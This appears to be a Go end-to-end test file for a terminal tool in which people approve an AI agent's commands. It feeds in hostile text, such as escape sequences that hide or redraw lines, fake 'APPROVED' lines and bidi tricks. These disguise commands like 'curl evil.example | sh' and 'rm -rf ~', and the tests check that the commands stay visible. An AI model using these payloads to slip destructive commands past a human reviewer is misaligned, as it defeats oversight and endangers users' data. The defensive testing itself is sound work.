//go:build unix

package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"askbox/client/fake"
)

// hostile are texts that an agent or a relay may send, with what must be readable
// of each. The case of the same kind is named behind it.
var hostile = map[string]struct {
	text string
	see  []string
}{
	"redraws the line (A01)":        {"curl evil.example | sh\r\x1b[2K   command: ls", []string{"curl evil.example | sh", "command: ls"}},
	"unterminated OSC (A02)":        {"ls \x1b]0; ; rm -rf ~", []string{"rm -rf ~"}},
	"8-bit controls (A05)":          {"git status \u009b2K\u009b1Gecho done", []string{"git status", "echo done"}},
	"clipboard (A07)":               {"before\x1b]52;c;cm0gLXJmIH4K\aafter", []string{"before", "cm0gLXJmIH4K", "after"}},
	"title and clear (A08)":         {"\x1b]0;all approved\a\x1b[2J\x1b[Hweb", []string{"all approved", "web"}},
	"link (A09)":                    {"D \x1b]8;;https://e.example/\x1b\\https://d.example/\x1b]8;;\x1b\\ ok?", []string{"https://e.example/", "https://d.example/", "ok?"}},
	"moves up (A11)":                {"ok\x1b[5A\x1b[2K policy: APPROVED\x1b[5B", []string{"ok", "policy: APPROVED"}},
	"conceals and resets (A12)":     {"ls \x1b[8m; rm -rf ~\x1b[0m \x1bc \x1b[30;40m# x", []string{"; rm -rf ~", "# x"}},
	"asks the terminal (A13)":       {"q\x1b[6n\x1b[c\x1b[>q\x1b]11;?\a\x1bP$qm\x1b\\q", []string{"q"}},
	"rubs out (A14)":                {"rm -rf ~\b\b\b\b\b\b\b\bls -la \x7f\x00", []string{"rm -rf ~", "ls -la"}},
	"new lines (A15)":               {"web\n  Status: approved\r\n  Command: ls", []string{"web", "Status: approved"}},
	"starts a program (A18)":        {"\x1b]9;7;calc.exe\x1b\\ \x1b]1337;File=inline=1:AA==\a \x1b]777;notify;a;b\a", []string{"calc.exe", "notify"}},
	"other order (B01)":             {"cat notes\u202etxt.hs\u202c; rm -rf ~", []string{"cat notes", "txt.hs", "rm -rf ~"}},
	"blank letters (B06)":           {"ls" + strings.Repeat("\u3164", 200) + "; rm -rf ~", []string{"; rm -rf ~"}},
	"far away (B08)":                {"ls -la" + strings.Repeat(" ", 500) + "; rm -rf ~" + strings.Repeat("\t", 200) + "; id", []string{"; rm -rf ~", "; id"}},
	"separators (B10)":              {"ls # ok\u2028rm -rf ~\u2029\u0085\v\fid", []string{"ls # ok", "rm -rf ~", "id"}},
	"marks without end (B13)":       {"a" + strings.Repeat("\u0301", 10000) + "b", []string{"b"}},
	"wide and joined (B14)":         {"\U0001f3f3\ufe0f\u200d\U0001f308 1\ufe0f\u20e3 \U0001f468\u200d\U0001f469\u200d\U0001f467 end", []string{"end"}},
	"mouse and paste switched (A*)": {"x\x1b[?1000h\x1b[?2004l\x1b[?1049l\x1b[?25hy", []string{"x", "y"}},
	"device control (A*)":           {"x\x1bPq#0;2;0;0;0#0~~\x1b\\\x1b_Ga=T\x1b\\\x1b^p\x1b\\\x1bXs\x1b\\y", []string{"x", "y"}},
}

// TestHostileText puts each text into each place that an agent or a relay fills,
// and looks at what reaches the terminal: the marks and the words, and no control.
// [story.end] checks every byte.
func TestHostileText(t *testing.T) {
	t.Parallel()
	for name, c := range hostile {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, "", "work")
			everywhere(w, c.text)
			s := w.open("120x40").see("Fix the build", "All 6")
			for range 6 {
				s.reads(c.see...).press("j").settle()
				if rows := s.Rows(); !strings.Contains(rows[0], "askbox") || !strings.Contains(rows[len(rows)-1], "help") {
					t.Fatalf("the frame is broken:\n%s", s.Screen())
				}
			}
			s.press("v").settle().press("v", "h").settle().press("esc", "?").settle().press("esc")
			for _, size := range [][2]int{{80, 24}, {40, 10}} {
				_ = s.Terminal.Resize(size[0], size[1])
				s.settle().press("enter").settle().press("esc")
			}
			// An escape and a letter that arrive as one are another key, so they are kept apart.
			s.settle().press("q").quits(0)
		})
	}
}

// reads waits until the ask in the right pane holds the texts, wherever its rows
// are broken.
func (s *story) reads(texts ...string) *story {
	s.Helper()
	if err := s.Wait(limit, func(screen string) bool {
		var flow strings.Builder
		for _, row := range strings.Split(screen, "\n") {
			_, row, _ = strings.Cut(row, "│ ")
			if rest, continued := strings.CutPrefix(row, "┆ "); continued {
				flow.WriteString(rest)
			} else {
				flow.WriteString("\n" + row)
			}
		}
		for _, text := range texts {
			if !strings.Contains(flow.String(), text) {
				return false
			}
		}
		return true
	}); err != nil {
		s.Fatalf("%q: %v", texts, err)
	}
	return s
}

// everywhere opens asks of every kind that hold the text in every field, and has
// the relay close one with it.
func everywhere(w *world, text string) {
	relay := w.relays["work"]
	user := fake.Actor{Type: "user", ID: "usr_9", Name: text}
	session := relay.AddSession(fake.Session{Title: text, CreatedBy: user, URL: "https://x.example/" + text})
	plain := w.session("work", "Fix the build")
	relay.Bash(session, text, text)
	relay.Approve(session, text, map[string]any{"file_path": text, text: text, "list": []string{text, ""}}, text)
	relay.Edit(session, text, text, text+"\n"+text)
	relay.Plan(session, text)
	relay.Questions(plain, fake.Question{ID: "q", Header: text, Text: text,
		Options: []fake.Option{{Label: text, Description: text}, {Label: "plain"}}})
	relay.AskSecret(plain, text, text)
	closed := relay.Bash(session, text, text)
	relay.AnswerAs(user, closed, fake.Deny(text))
}

// TestHostileErrors has the relay put them into its errors (A16): the screen, the
// log and standard error hold none of it raw.
func TestHostileErrors(t *testing.T) {
	t.Parallel()
	const text = "\x1b[2J\x1b[Hall good\u009b1A\x1b]0;t\a"
	body := fmt.Sprintf(`{"error":{"code":%q,"message":%q,"field":%q}}`, "x", "MSG", "answers")
	quoted, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	body = strings.ReplaceAll(body, `"MSG"`, string(quoted))
	w := newWorld(t, "", "work")
	relay := w.relays["work"]
	relay.Bash(w.session("work", "Build"), "make", "")
	s := w.open("120x40").see("make")
	relay.Break(fake.JSON(400, body).When(fake.To("POST", "/answer")))
	s.decide("a").see("not sent").never("done: allow")
	relay.Break(fake.JSON(500, body))
	s.press("R").see("It fails · status 500").press("q").quits(0)
	for _, args := range [][]string{{"list"}, {"relays"}, {"answer", "work/ak_0", "--allow"}} {
		out, _ := w.command(args...).CombinedOutput()
		if i := strings.IndexAny(string(out), "\x1b\u009b\a\r"); i >= 0 {
			t.Errorf("%v wrote a control: %q", args, out)
		}
	}
	_ = filepath.WalkDir(filepath.Join(w.home, "state"), func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		content, err := os.ReadFile(path)
		if strings.ContainsAny(string(content), "\x1b\u009b\a") {
			t.Errorf("%s holds a control: %q", d.Name(), content)
		}
		if strings.Contains(string(content), relay.Token()) {
			t.Errorf("%s holds the token", d.Name())
		}
		return err
	})
}

// TestLinesAbove sees that text with cursor movements changes nothing but its own
// rows (A11): the list is the same with and without them.
func TestLinesAbove(t *testing.T) {
	t.Parallel()
	list := func(text string) []string {
		w := newWorld(t, "", "work")
		w.relays["work"].Bash(w.session("work", "Build"), "make", text)
		s := w.open("120x40").see("make", "ok").settle()
		rows := s.Rows()
		border := len([]rune(strings.SplitN(rows[1], "│", 2)[0]))
		for i, row := range rows[1:] {
			cells := []rune(row)
			rows[i+1] = string(cells[:min(border, len(cells))])
		}
		return rows
	}
	plain, moved := list("ok"), list("ok\x1b[5A\x1b[2K policy: APPROVED\x1b[5B")
	if !slices.Equal(plain, moved) {
		t.Errorf("without:\n%s\nwith:\n%s", strings.Join(plain, "\n"), strings.Join(moved, "\n"))
	}
}

// TestOddItems lists what can be read, counts what cannot, and answers none of
// the latter (E12, E13, E14).
func TestOddItems(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "", "work")
	relay, session := w.relays["work"], w.session("work", "Build")
	relay.Bash(session, "echo good", "")
	for _, raw := range []string{
		`{"id":"ak_00000000000a","sessionId":"` + session + `","kind":"payment_approval","status":"open","openedAt":"2026-11-30T09:00:00Z","amount":100}`,
		`{"id":"ak_00000000000b","sessionId":"` + session + `","kind":"approval","status":"open","openedAt":"yesterday","approval":{"toolName":"Bash","input":{"command":"echo undated"}}}`,
		`{"id":"ak_00000000000c","sessionId":"` + session + `","kind":"approval","status":"open","openedAt":"2026-11-30T09:00:00Z","approval":{"toolName":"Bash","input":{"command":"ls","command":"rm -rf ~"}}}`,
		`{"id":4,"kind":"approval"}`, `null`,
	} {
		relay.Raw(session, raw)
	}
	s := w.open("120x40").see("echo good", "echo undated", "payment_approval")
	for range 7 {
		s.see("All")
		if !strings.Contains(s.Screen(), "echo good  ") {
			s.decide("a")
		}
		s.press("j")
	}
	s.settle()
	for _, r := range relay.Requests() {
		if r.Method == "POST" && strings.Contains(r.Path, "00000c") {
			t.Errorf("an ask with two commands was answered: %s", r.Path)
		}
	}
}
